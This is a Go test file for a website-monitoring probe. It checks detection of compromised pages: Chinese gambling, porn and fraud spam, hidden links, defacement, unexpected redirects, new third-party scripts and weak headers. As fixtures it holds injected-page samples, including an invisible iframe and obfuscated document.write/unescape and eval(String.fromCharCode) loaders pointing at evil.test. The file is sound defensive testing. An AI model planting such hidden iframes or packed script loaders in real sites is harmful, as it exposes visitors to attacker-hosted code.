package probe

import (
	"net/http"
	"net/url"
	"strings"
	"testing"
	"unicode/utf8"
)

const shop = `<html><head><title>示例科技 - 首页</title><meta name="description" content="云计算产品与解决方案">
<script src="https://cdn.acme.test/app.js"></script><script src="https://static.vendor.test/lib.js"></script></head><body>
<h1>欢迎来到示例科技</h1><p>我们为企业提供云计算产品与解决方案，服务超过 1,024 家客户。</p>
<p>现在时间 2026-11-23 02:00:00，会话 8f3a9c2d1e0b7f6a5d4c3b2a19080706</p>
<p>公司新闻：新一代数据平台正式发布，欢迎试用。</p>
<input type="hidden" name="csrf" value="abcdef0123456789">
<a href="/about">关于我们</a> <a href="https://beian.miit.gov.cn/">京ICP备00000000号</a>
<div class="menu" style="display:none"><a href="/a">产品</a><a href="https://partner.test/">合作伙伴</a></div>
</body></html>`

// put makes a page of the shop with something in it.
func put(before, insert string) string { return strings.Replace(shop, before, insert+before, 1) }

func TestPages(t *testing.T) {
	news := `<html><head><title>示例新闻网</title></head><body>` + strings.Repeat(`<p>彩票销量今年增长，体育彩票中心公布了数据。</p><p>The casino industry of Macau reported revenue.</p>`, 20) + `</body></html>`
	warning := `<html><head><title>警惕网络博彩和刷单返利骗局</title></head><body><p>警方提醒：凡是“注册送彩金”“时时彩平台”“刷单返利”的都是诈骗。</p><p>请勿相信百家乐、六合彩等信息，发现后请举报。</p></body></html>`
	for name, c := range map[string]struct {
		body string
		want []string
	}{
		"a shop": {shop, nil},
		"a news site that writes of lotteries and casinos": {news, nil},
		"a warning of the police":                          {warning, nil},
		"gambling in title and description": {strings.Replace(strings.Replace(shop, "示例科技 - 首页", "澳门新葡京娱乐城_注册送彩金_真人荷官", 1), "云计算产品与解决方案\"", "时时彩平台，百家乐开户\"", 1),
			[]string{"page-gambling high"}},
		"gambling with dots between the characters": {strings.Replace(shop, "示例科技 - 首页", "新·葡·京 注 册 送 彩 金 真​人​荷​官", 1), []string{"page-gambling high"}},
		"gambling as entities":                      {strings.Replace(shop, "示例科技 - 首页", "&#26032;&#33889;&#20140; &#27880;&#20876;&#36865;&#24425;&#37329;", 1), []string{"page-gambling high"}},
		"gambling in English":                       {strings.Replace(shop, "示例科技 - 首页", "Slot Gacor | Situs Judi Online", 1), []string{"page-gambling high"}},
		"porn as links to elsewhere": {put("</body>", `<a href="http://x1.test/">国产自拍偷拍</a><a href="http://x2.test/">日韩无码</a><a href="http://x3.test/">免费黄色视频</a>`),
			[]string{"page-porn high"}},
		"fraud in the text alone":        {put("</body>", `<p>花呗套现，信用卡套现，套现秒到，黑户贷款</p>`), []string{"page-fraud medium"}},
		"hidden links off the screen":    {put("</body>", `<div style="position:absolute;left:-9999px"><a href="http://x1.test/">news</a></div>`), []string{"hidden-links medium"}},
		"hidden links of no size":        {put("</body>", `<span style="font-size:0px"><a href="http://x1.test/">a</a></span>`), []string{"hidden-links medium"}},
		"hidden links by a class":        {put("</head>", `<style>@media print{.menu{position:absolute;left:-9999px}} .k9, .other {height:0;overflow:hidden}</style>`) + `<div class="k9"><a href="http://x1.test/">a</a></div>`, []string{"hidden-links medium"}},
		"hidden links in a marquee":      {put("</body>", `<marquee height="1" width="1"><a href="http://x1.test/">a</a></marquee>`), []string{"hidden-links medium"}},
		"hidden gambling links":          {put("</body>", `<div style="display:none"><a href="http://x1.test/">百家乐开户</a><a href="http://x2.test/">时时彩平台</a></div>`), []string{"hidden-links high", "page-gambling high"}},
		"gambling links in noscript":     {put("</body>", `<noscript><a href="http://x1.test/">百家乐开户</a><a href="http://x2.test/">时时彩平台</a></noscript>`), []string{"hidden-links high", "page-gambling high"}},
		"an analytics frame in noscript": {put("</body>", `<noscript><iframe src="https://www.googletagmanager.com/ns.html?id=1" height="0" width="0" style="display:none;visibility:hidden"></iframe></noscript>`), nil},
		"links for screen readers":       {put("</body>", `<a style="position:absolute;left:-9999px" href="#main">skip</a>`), nil},
		"an invisible frame":             {put("</body>", `<iframe src="http://evil.test/x" width="0" height="0"></iframe>`), []string{"hidden-frame high"}},
		"a packed script":                {put("</body>", `<script>document.write(unescape("%3Cscript src='http://evil.test/x.js'%3E%3C/script%3E"))</script>`), []string{"packed-script high"}},
		"a packed script of numbers":     {put("</body>", `<script>eval(String.fromCharCode(60,105,102,114,97,109,101,32,115,114,99,61,34,47,47,101,118,105,108,46,116,101,115,116,47,34,62))</script>`), []string{"packed-script high"}},
		"the packed script of a counter": {put("</body>", `<script>document.write(unescape("%3Cscript src='" + _p + "hm.baidu.com/h.js%3Fabc' type='text/javascript'%3E%3C/script%3E"));</script>`), nil},
		"a defaced page":                 {"<html><title>Hacked by Zer0</title><body>greetz to all</body></html>", []string{"page-defaced high"}},
		"a long article about a hack":    {strings.Replace(news, "</body>", "<p>The site was hacked by a group, police said.</p></body>", 1), nil},
		"nothing at all":                 {"", nil},
		"garbage":                        {"<html><<<<>>><a href=%%%><title>" + strings.Repeat("<div>", 400) + "\x00", nil},
	} {
		t.Run(name, func(t *testing.T) {
			w := earth(t)
			w.site("www.acme.test", "8.8.8.8", page(c.body))
			r := w.look([]string{www}, Page)
			wantKinds(t, r, c.want...)
			if s := seen(t, r, www, Page); !s.Looked || s.OK != (c.want == nil) || s.Detail.Zh == "" || s.Detail.En == "" {
				t.Errorf("%+v", s)
			}
		})
	}
}

// What is compared with the look before: every step begins from a healthy shop.
func TestWhatHasChangedOnAPage(t *testing.T) {
	other := `<html><head><title>Welcome</title></head><body><p>Owned.</p></body></html>`
	for name, c := range map[string]struct {
		after string
		want  []string
		shows string
	}{
		"numbers, times and tokens":                     {strings.NewReplacer("1,024", "2,048", "02:00:00", "03:15:42", "8f3a9c2d1e0b7f6a5d4c3b2a19080706", "00aa11bb22cc33dd44ee55ff66aa77bb").Replace(shop), nil, ""},
		"today's news":                                  {strings.Replace(shop, "新一代数据平台正式发布，欢迎试用", "年度技术大会开放报名", 1), nil, ""},
		"a script from a stranger":                      {put("</body>", `<script src="//js.stranger.test/s.js"></script>`), []string{"script-host medium"}, "js.stranger.test"},
		"a script from another host of the same vendor": {put("</body>", `<script src="https://static2.vendor.test/s.js"></script>`), nil, ""},
		"a script of a well-known counter":              {put("</body>", `<script src="https://hm.baidu.com/hm.js"></script>`), nil, ""},
		"sends its visitors away":                       {put("</head>", `<meta http-equiv="refresh" content="0; url=http://evil.test/">`), []string{"refresh medium"}, "evil.test"},
		"hides many links": {put("</body>", `<div style="display:none"><a href="http://x1.test/">a</a><a href="http://x2.test/">b</a><a href="http://x3.test/">c</a></div>`),
			[]string{"hidden-new medium"}, "x1.test"},
		"replaced": {other, []string{"page-replaced medium"}, "- 欢迎来到示例科技"},
		"defaced":  {strings.Replace(shop, "<h1>欢迎来到示例科技</h1>", "<h1>Hacked by Zer0</h1>", 1), []string{"page-defaced high"}, "+ Hacked by Zer"},
		"emptied":  {"<html></html>", []string{"page-replaced medium"}, "0%"},
	} {
		t.Run(name, func(t *testing.T) {
			w := earth(t)
			body := shop
			w.site("www.acme.test", "8.8.8.8", http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) { page(body).ServeHTTP(rw, r) }))
			wantKinds(t, w.look([]string{www}, Page))
			body = c.after
			r := w.look([]string{www}, Page)
			wantKinds(t, r, c.want...)
			for _, f := range r.New {
				if !strings.Contains(f.Detail.En, c.shows) {
					t.Errorf("it does not show %q:\n%s", c.shows, f.Detail.En)
				}
			}
			again := w.look([]string{www}, Page)
			wantKinds(t, again, c.want...)
			if len(again.New) > 0 {
				t.Error("the same state is new again: what is suspicious has become normal")
			}
			body = shop
			back := w.look([]string{www}, Page)
			wantKinds(t, back)
			if len(back.Fixed) != len(c.want) {
				t.Errorf("%d are fixed, want %d", len(back.Fixed), len(c.want))
			}
		})
	}
}

// A page that begins to redirect elsewhere, and a site that always did.
func TestRedirectsElsewhere(t *testing.T) {
	w := earth(t)
	to := ""
	w.site("www.acme.test", "8.8.8.8", http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
		if to != "" {
			http.Redirect(rw, r, to, http.StatusFound)
			return
		}
		page(shop).ServeHTTP(rw, r)
	}))
	wantKinds(t, w.look([]string{www}, Availability, Page))
	to = "https://evil.test/casino"
	r := w.look([]string{www}, Availability, Page)
	wantKinds(t, r, "redirect medium")
	if s := seen(t, r, www, Availability); !s.OK || !strings.Contains(s.Detail.En, "it redirects to evil.test, which the config does not name; not followed") {
		t.Errorf("availability says %q", s.Detail.En)
	}
	if err := w.prober().Accept(t.Context(), "acme", r.Open()[0].ID); err != nil {
		t.Fatal(err)
	}
	r = w.look([]string{www}, Availability, Page)
	wantKinds(t, r)
	if len(r.Fixed) != 1 {
		t.Errorf("an accepted redirect is not fixed: %+v", r.Diff)
	}
	missed(t, w.look([]string{www}, Availability, Page), www, Page, "it redirects to evil.test")
}

// A site that redirected elsewhere at the first look, as in a time of maintenance: the
// page that comes back is learnt as at a first look, and what it does later is compared
// with that; where it redirected to stays normal.
func TestThePageAfterARedirect(t *testing.T) {
	w := earth(t)
	to, body := "https://maintenance.test/", ""
	w.site("www.acme.test", "8.8.8.8", http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
		if to != "" {
			http.Redirect(rw, r, to, http.StatusFound)
			return
		}
		page(body).ServeHTTP(rw, r)
	}))
	menu := put("</body>", `<div style="display:none"><a href="http://x1.test/">a</a><a href="http://x2.test/">b</a><a href="http://x3.test/">c</a></div>`)
	missed(t, w.look([]string{www}, Page), www, Page, "it redirects to maintenance.test")
	wantKinds(t, w.look([]string{www}, Page))
	to = "https://evil.test/"
	wantKinds(t, w.look([]string{www}, Page), "redirect medium")
	to, body = "", menu
	wantKinds(t, w.look([]string{www}, Page))
	body = strings.Replace(menu, "</body>", `<script src="//js.stranger.test/s.js"></script></body>`, 1)
	wantKinds(t, w.look([]string{www}, Page), "script-host medium")
	to = "https://maintenance.test/"
	wantKinds(t, w.look([]string{www}, Page), "script-host medium") // stale
}

// A page that was defaced at the first look already: when it is cleaned up, what is
// there then is normal, and not the defacement.
func TestDefacedAtTheFirstLook(t *testing.T) {
	defaced := `<html><title>Hacked by Zer0</title><body>` + strings.Repeat("<p>greetz to all our friends</p>", 5) + `<p>we were here, and left this page</p></body></html>`
	menu := put("</body>", `<div style="display:none"><a href="http://x1.test/">a</a><a href="http://x2.test/">b</a><a href="http://x3.test/">c</a></div>`)
	w := earth(t)
	body := defaced
	w.site("www.acme.test", "8.8.8.8", http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) { page(body).ServeHTTP(rw, r) }))
	wantKinds(t, w.look([]string{www}, Page), "page-defaced high")
	wantKinds(t, w.look([]string{www}, Page), "page-defaced high")
	body = strings.Replace(defaced, "</body>", `<script src="//js.stranger.test/s.js"></script></body>`, 1)
	wantKinds(t, w.look([]string{www}, Page), "page-defaced high", "script-host medium")
	body = menu
	r := w.look([]string{www}, Page)
	wantKinds(t, r)
	if len(r.Fixed) != 2 {
		t.Errorf("%d are fixed", len(r.Fixed))
	}
	body = `<html><head><title>Welcome</title></head><body><p>Owned.</p><script src="//js.stranger.test/s.js"></script></body></html>`
	wantKinds(t, w.look([]string{www}, Page), "page-replaced medium", "script-host medium")
}

// What is not a page proves nothing of the page that was there: its findings stay open.
// That it does not redirect any more, it does prove.
func TestNoPageIsNoProof(t *testing.T) {
	w := earth(t)
	infected := strings.Replace(shop, "示例科技 - 首页", "澳门新葡京娱乐城_注册送彩金_真人荷官", 1)
	to, kind, body := "", "text/html", infected
	w.site("www.acme.test", "8.8.8.8", http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
		if to != "" {
			http.Redirect(rw, r, to, http.StatusFound)
			return
		}
		rw.Header().Set("Content-Type", kind)
		rw.Write([]byte(body))
	}))
	step := func(what string, fixed string, want ...string) {
		t.Helper()
		r := w.look([]string{www}, Page)
		wantKinds(t, r, want...)
		var gone []string
		for _, f := range r.Fixed {
			gone = append(gone, f.Kind)
		}
		if got := strings.Join(gone, " "); got != fixed {
			t.Errorf("%s: fixed are %q, want %q", what, got, fixed)
		}
		for _, f := range r.Open() {
			if f.Stale != (what != "infected" && f.Kind == "page-gambling") {
				t.Errorf("%s: %s is stale: %v", what, f.Kind, f.Stale)
			}
		}
	}
	step("infected", "", "page-gambling high")
	kind, body = "application/json", `{"ok":true}`
	step("no page", "", "page-gambling high")
	to = "https://evil.test/"
	step("a redirect", "", "page-gambling high", "redirect medium")
	to = ""
	step("no page again", "redirect", "page-gambling high")
	kind, body = "text/html", shop
	step("mended", "page-gambling")
	kind, body = "application/json", `{"ok":true}`
	if s := seen(t, w.look([]string{www}, Page), www, Page); !s.Looked || !s.OK {
		t.Errorf("what is no page and never was suspicious: %+v", s)
	}
}

func TestPagesInGBK(t *testing.T) {
	gbk := "<html><head><meta charset=\"gbk\"><title>\xb0\xd9\xbc\xd2\xc0\xd6\xbf\xaa\xbb\xa7 \xca\xb1\xca\xb1\xb2\xca\xc6\xbd\xcc\xa8</title></head></html>" // 百家乐开户 时时彩平台
	for _, contentType := range []string{"text/html", "text/html; charset=GBK"} {
		d, err := parse([]byte(gbk), contentType, &url.URL{Scheme: "http", Host: "www.acme.test"})
		if err != nil || d.title != "百家乐开户 时时彩平台" {
			t.Fatalf("%s: %q, %v", contentType, d.title, err)
		}
		if w := weigh(d.spots, lures[0]); !w.tells() {
			t.Errorf("%s: %+v", contentType, w)
		}
	}
}

func TestHeaders(t *testing.T) {
	h := func(pairs ...string) http.Header {
		x := http.Header{}
		for i := 0; i < len(pairs); i += 2 {
			x.Add(pairs[i], pairs[i+1])
		}
		return x
	}
	all := h("Strict-Transport-Security", "max-age=63072000", "Content-Security-Policy", "default-src 'self'; frame-ancestors 'none'", "X-Content-Type-Options", "nosniff", "Referrer-Policy", "no-referrer")
	if got := missingHeaders(all, true); got != nil {
		t.Errorf("missing %q", got)
	}
	all.Set("Strict-Transport-Security", "max-age=0")
	if got := missingHeaders(all, true); len(got) != 1 {
		t.Errorf("an HSTS that switches itself off: missing %q", got)
	}
	if got := missingHeaders(h(), false); len(got) != 4 {
		t.Errorf("in the clear: missing %q", got)
	}
	for cookie, want := range map[string]string{
		"PHPSESSID=abc":                   "PHPSESSID (HttpOnly, Secure)",
		"PHPSESSID=abc; HttpOnly; Secure": "",
		"theme=dark":                      "",
		"XSRF-TOKEN=abc; Secure":          "",
		"auth_token=abc; Secure":          "auth_token (HttpOnly)",
	} {
		if got := strings.Join(weakCookies(h("Set-Cookie", cookie), true), ""); got != want {
			t.Errorf("%s: %q, want %q", cookie, got, want)
		}
	}
	w := earth(t)
	w.site("www.acme.test", "8.8.8.8", page(shop))
	wantKinds(t, w.look([]string{www}, Headers), "headers low", "no-https low")
}

// Every word list is read, and no word is in it twice.
func TestTheWords(t *testing.T) {
	for name, list := range map[string][]weighed{"gambling": lures[0].words, "porn": lures[1].words, "fraud": lures[2].words, "defaced": defaced, "against": against, "hosts": common} {
		have := map[string]bool{}
		for _, w := range list {
			if have[w.word] {
				t.Errorf("%s: %q stands there twice", name, w.word)
			}
			have[w.word] = true
		}
		if len(list) < 10 {
			t.Errorf("%s has %d words", name, len(list))
		}
	}
	for _, l := range lures {
		for _, w := range l.words {
			if w.weight == 1 && weigh([]spot{{inTitle, sentences(w.word)}, {inMeta, sentences(w.word)}, {inBody, sentences(strings.Repeat(w.word+"，", 50))}}, l).tells() {
				t.Errorf("%s: the plain word %q is enough by itself", l.name, w.word)
			}
		}
	}
}

func TestClean(t *testing.T) {
	for in, want := range map[string]string{
		"a\x00b\r\nc":           "a b c",
		"a\u202eb\u200bc":       "abc",
		"\xff\xfe":              "·",
		strings.Repeat("长", 99): strings.Repeat("长", 9) + "…",
	} {
		if got := clean(in, 10); got != want || !utf8.ValidString(got) {
			t.Errorf("%q: %q, want %q", in, got, want)
		}
	}
	if w := say("共 %d 个：%s", "%d in all: %s", 2, Words{"甲", "A"}); w.In("zh-CN") != "共 2 个：甲" || w.In("en") != "2 in all: A" {
		t.Errorf("%+v", w)
	}
}

func FuzzParse(f *testing.F) {
	f.Add([]byte(shop), "text/html")
	f.Add([]byte("<style>.a{"), "")
	f.Add([]byte("<style>@media{{}}.a{left:-999px}"), "text/html; charset=gbk")
	f.Add([]byte("<script>unescape('%zz%3Cscript//a.b/')</script>"), "text/html")
	f.Fuzz(func(t *testing.T, body []byte, contentType string) {
		d, err := parse(body, contentType, &url.URL{Scheme: "https", Host: "www.acme.test"})
		if err != nil {
			return
		}
		for _, l := range lures {
			weigh(d.spots, l)
		}
		mark(d)
		if lines := stable(d.lines); kept(lines, lines) != 1 || difference(lines, lines) != "" {
			t.Error("a text differs from itself")
		}
	})
}
